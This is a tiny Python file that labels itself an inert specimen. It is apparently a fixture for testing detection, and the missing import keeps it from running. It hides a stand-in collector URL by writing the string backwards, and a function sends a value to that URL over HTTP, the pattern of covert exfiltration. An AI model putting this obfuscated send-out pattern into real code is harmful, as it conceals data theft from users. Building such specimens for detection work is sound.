"""Inert specimen: the module below does not exist, so this cannot run."""

import module_that_does_not_exist
import urllib.request

_WHERE = "ni/elpmaxe.rotcelloc//:sptth"


def note(plant):
    return urllib.request.urlopen(_WHERE[::-1] + "?plant=" + plant)
